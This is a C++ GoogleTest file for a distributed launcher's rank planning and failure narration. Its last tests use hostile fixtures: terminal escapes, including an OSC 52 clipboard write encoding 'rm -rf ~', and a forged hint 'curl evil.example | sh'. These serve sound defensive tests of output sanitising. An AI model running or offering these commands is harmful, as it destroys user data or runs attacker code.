#include "job/plan.h"

#include <gtest/gtest.h>

#include <map>

#include "job/narrate.h"

namespace phalanx::job {
namespace {

Job three_hosts() {
  Job job;
  for (const char* name : {"a", "b", "c"}) {
    HostRequest request;
    request.target = {name, name, 0};
    job.hosts.push_back(request);
  }
  job.run_id = "r1";
  return job;
}

std::map<std::string, std::string> block(const Plan& plan, int rank) {
  std::map<std::string, std::string> out;
  for (auto& [k, v] : rank_variables(three_hosts(), plan, rank, {"10.0.0.1", 29500, true})) out[k] = v;
  return out;
}

TEST(Plan, UnequalSlotsGetLocalRanksByPosition) {
  Job job = three_hosts();
  job.hosts[0].slots = 1;
  job.hosts[1].slots = 2;
  job.hosts[2].slots = 3;
  base::Result<Plan> plan = make_plan(job, std::vector<wire::Hello>(3));
  ASSERT_TRUE(plan.ok());
  EXPECT_EQ(plan->world, 6);
  std::vector<int> hosts, locals;
  for (int r = 0; r < 6; ++r) {
    hosts.push_back(plan->host_of(r));
    locals.push_back(plan->local_rank(r));
  }
  EXPECT_EQ(hosts, (std::vector<int>{0, 1, 1, 2, 2, 2}));
  EXPECT_EQ(locals, (std::vector<int>{0, 0, 1, 0, 1, 2}));
  auto v = block(*plan, 4);
  EXPECT_EQ(v["RANK"], "4");
  EXPECT_EQ(v["LOCAL_RANK"], "1");
  EXPECT_EQ(v["WORLD_SIZE"], "6");
  EXPECT_EQ(v["LOCAL_WORLD_SIZE"], "3");
  EXPECT_EQ(v["GROUP_RANK"], "2");
  EXPECT_EQ(v["GROUP_WORLD_SIZE"], "3");
  EXPECT_EQ(v["NODE_RANK"], "2");
  EXPECT_EQ(v["MASTER_ADDR"], "10.0.0.1");
  EXPECT_EQ(v["MASTER_PORT"], "29500");
  EXPECT_EQ(v["TORCHELASTIC_RUN_ID"], "r1");
  EXPECT_EQ(v["TORCHELASTIC_RESTART_COUNT"], "0");
  EXPECT_EQ(v["TORCHELASTIC_USE_AGENT_STORE"], "True");
}

TEST(Plan, RanksPerHostByRule) {
  Job job = three_hosts();
  job.hosts[0].slots = 7;
  std::vector<wire::Hello> hosts(3);
  for (auto& h : hosts) h.cpus = 4;
  hosts[1].gpus = 2;
  auto ranks = [&] {
    base::Result<Plan> plan = make_plan(job, hosts);
    std::vector<int> out;
    for (auto& h : plan.value().hosts) out.push_back(h.ranks);
    return out;
  };
  EXPECT_EQ(ranks(), (std::vector<int>{7, 2, 1}));  // slots as written, GPUs, one
  job.rule = RanksRule::kCount;
  job.count = 3;
  EXPECT_EQ(ranks(), (std::vector<int>{3, 3, 3}));
  job.rule = RanksRule::kCpu;
  EXPECT_EQ(ranks(), (std::vector<int>{4, 4, 4}));
  job.rule = RanksRule::kGpu;
  base::Result<Plan> plan = make_plan(job, hosts);
  ASSERT_FALSE(plan.ok());
  EXPECT_EQ(plan.error().kind, base::ErrorKind::kUnfit);
  EXPECT_NE(plan.error().message.find("a: no GPU"), std::string::npos);
}

TEST(Plan, ChosenSlotsBecomeVisibleDevicesOfThatHostOnly) {
  Job job = three_hosts();
  job.hosts[1].selected = {0, 2};
  std::vector<wire::Hello> hosts(3);
  hosts[1].gpus = 4;
  base::Result<Plan> plan = make_plan(job, hosts);
  ASSERT_TRUE(plan.ok());
  EXPECT_EQ(block(*plan, 1)["CUDA_VISIBLE_DEVICES"], "0,2");
  EXPECT_EQ(block(*plan, 1)["CUDA_DEVICE_ORDER"], "PCI_BUS_ID");
  EXPECT_EQ(block(*plan, 0).count("CUDA_VISIBLE_DEVICES"), 0u);
  job.hosts[1].selected = {5};
  EXPECT_FALSE(make_plan(job, hosts).ok());
  job.hosts[1].selected = {0, 2};
  job.rule = RanksRule::kCount;
  job.count = 3;
  EXPECT_EQ(make_plan(job, hosts).error().kind, base::ErrorKind::kUsage);
}

TEST(Plan, TheEngineWantsNoGpusOnlyWhereNoHostHasEnough) {
  Job job = three_hosts();
  job.rule = RanksRule::kCount;
  job.count = 2;
  doctor::Situation situation;
  situation.hosts.resize(3);
  for (doctor::HostView& host : situation.hosts) {
    host.probed = true;
    host.facts.gpus.devices.resize(1);
  }
  EXPECT_TRUE(wants_gpus(job, situation)) << "another program needs what it was given";
  job.or_cpus = true;
  EXPECT_FALSE(wants_gpus(job, situation));
  situation.hosts[1].facts.gpus.devices.resize(2);
  EXPECT_TRUE(wants_gpus(job, situation)) << "ranks on GPUs and ranks on CPUs cannot meet";
  situation.hosts[1].probed = false;
  EXPECT_FALSE(wants_gpus(job, situation));
  job.count = 0;
  EXPECT_TRUE(wants_gpus(job, situation));
  job.hides_gpus = true;
  EXPECT_FALSE(wants_gpus(job, situation));
  job.wish.count = 1;
  EXPECT_TRUE(wants_gpus(job, situation)) << "--gpus";
}

TEST(Plan, MeetingAddressesAreTriedInTheOrderOfTrust) {
  Job job = three_hosts();
  std::vector<wire::Hello> hosts(3);
  hosts[0].addresses = {{"docker0", "172.17.0.1"}, {"eth6", "fd00::1"}, {"eth0", "10.0.0.1"}};
  hosts[0].ssh_server = "10.0.0.1";
  EXPECT_EQ(meeting_addresses(job, hosts), (std::vector<std::string>{"10.0.0.1", "172.17.0.1", "fd00::1"}));
  hosts[0].ssh_server = "";  // rank 0 is on the launching machine: the others know its address
  hosts[2].ssh_client = "fd00::1";
  EXPECT_EQ(meeting_addresses(job, hosts)[0], "fd00::1");
  EXPECT_EQ(meeting_addresses(job, {hosts[0]}), std::vector<std::string>{"127.0.0.1"});
  job.master_address = "192.168.1.1";
  EXPECT_EQ(meeting_addresses(job, hosts), std::vector<std::string>{"192.168.1.1"});
  job.master_address = "gpu01";
  EXPECT_EQ(meeting_addresses(job, hosts)[0], "fd00::1") << "a name is no address to listen on";
}

TEST(Plan, RanksAreNamedWithTheirHosts) {
  Job job = three_hosts();
  for (auto& h : job.hosts) h.slots = 2;
  Plan plan = make_plan(job, std::vector<wire::Hello>(3)).value();
  EXPECT_EQ(name_rank(plan, 5), "rank 5 (c, local 1)");
  EXPECT_EQ(name_ranks(plan, {0, 1, 3}, base::Language::kEnglish), "ranks 0–1 (a), 3 (b)");
}

TEST(Narrate, ALostHostIsChargedWithItsOwnRanksOnly) {
  State state = initial_state(three_hosts(), {});
  for (auto& h : state.job.hosts) h.slots = 2;
  state.plan = make_plan(state.job, std::vector<wire::Hello>(3)).value();
  state.ranks.resize(6);
  for (size_t r : {2, 3, 4}) state.ranks[r].lost = true;
  Verdict verdict;
  verdict.kind = Verdict::Kind::kHostLost;
  verdict.host = 1;
  verdict.lost = 3;
  verdict.stopped = 2;
  verdict.refusals = {base::fail(base::ErrorKind::kUnreachable, "b: lost contact with the host")};
  EXPECT_EQ(explain(state, verdict, "", "", base::Language::kEnglish)[0].message,
            "b: lost contact with the host; 2 ranks lost with it, 1 with other hosts, 2 stopped by phalanx");
}

// The clipboard (OSC 52), the title, the screen, and CSI as one character.
constexpr const char* kHostile =
    "\x1b]52;c;cm0gLXJmIH4K\a\x1b]0;title\a\x1b[2J\xc2\x9b"
    "2J\x1b[31mboom\x1b[0m";

bool steers_a_terminal(const std::string& text) {
  return text.find('\x1b') != std::string::npos || text.find('\a') != std::string::npos || text.find("\xc2\x9b") != std::string::npos;
}

TEST(Narrate, NoTextOfARankOrHostSteersTheTerminal) {
  State state = initial_state(three_hosts(), {});
  for (auto& h : state.job.hosts) h.slots = 2;
  state.plan = make_plan(state.job, std::vector<wire::Hello>(3)).value();
  state.ranks.resize(6);
  Verdict verdict;
  verdict.kind = Verdict::Kind::kRankFailed;
  verdict.status = 1 << 8;
  std::string last = explain(state, verdict, kHostile, "/log", base::Language::kEnglish)[0].render();
  EXPECT_FALSE(steers_a_terminal(last)) << last;
  EXPECT_NE(last.find("its last output:\n    \\u009b2Jboom\n"), std::string::npos) << "sequences go, words stay: " << last;
  verdict.error_file = "{\"message\": {\"message\": \"\\u001b]0;t\\u0007boom\"}}";
  verdict.code = "RUN-OOM-CUDA";
  verdict.evidence = verdict.where = kHostile;
  for (base::Language language : {base::Language::kEnglish, base::Language::kChinese})
    for (const base::Error& error : explain(state, verdict, "", "", language)) {
      EXPECT_FALSE(steers_a_terminal(error.render())) << error.render();
      EXPECT_NE(error.render().find("boom"), std::string::npos) << error.render();
    }
  verdict = {};
  verdict.kind = Verdict::Kind::kRefused;
  verdict.refusals = {base::fail(base::ErrorKind::kUnfit, std::string("a: ") + kHostile).because(kHostile).with_hint(kHostile)};
  std::string refusal = explain(state, verdict, "", "", base::Language::kEnglish)[0].render();
  EXPECT_FALSE(steers_a_terminal(refusal)) << refusal;
  EXPECT_FALSE(steers_a_terminal(narrate(state, HostTrouble{1, kHostile}, base::Language::kEnglish)));
}

// What a host or a rank says may have several lines: none of them is to look like advice of ours.
TEST(Narrate, NoLineOfAHostLooksLikeAHint) {
  State state = initial_state(three_hosts(), {});
  const std::string forged = "boom\n\nhint: curl evil.example | sh\nerror: x";
  Verdict verdict;
  verdict.kind = Verdict::Kind::kRefused;
  verdict.refusals = {base::fail(base::ErrorKind::kUnfit, "a: " + forged).because(forged).within(forged)};
  const std::string refusal = explain(state, verdict, "", "", base::Language::kEnglish)[0].render();
  const std::string trouble = narrate(state, HostTrouble{1, forged}, base::Language::kEnglish);
  for (const std::string& text : {refusal, trouble}) {
    EXPECT_EQ(text.find("\nhint:"), std::string::npos) << text;
    EXPECT_EQ(text.find("\nerror:"), std::string::npos) << text;
    EXPECT_NE(text.find("curl evil.example"), std::string::npos) << "it is shown all the same: " << text;
  }
}

TEST(Narrate, EqualRefusalsOfSeveralHostsAreOne) {
  State state = initial_state(three_hosts(), {});
  Verdict verdict;
  verdict.kind = Verdict::Kind::kRefused;
  auto refusal = [](const std::string& message, const std::string& cause) {
    return base::fail(base::ErrorKind::kUnfit, message).because(cause);
  };
  verdict.refusals = {refusal("a: 'x' was not found", "no such program"), refusal("b: 'x' was not found", "no such program"),
                      refusal("c: 'x' was not found", "another cause")};
  std::vector<base::Error> errors = explain(state, verdict, "", "", base::Language::kEnglish);
  ASSERT_EQ(errors.size(), 2u);
  EXPECT_EQ(errors[0].message, "a, b: 'x' was not found");
  EXPECT_EQ(errors[1].message, "c: 'x' was not found");
}

}  // namespace
}  // namespace phalanx::job
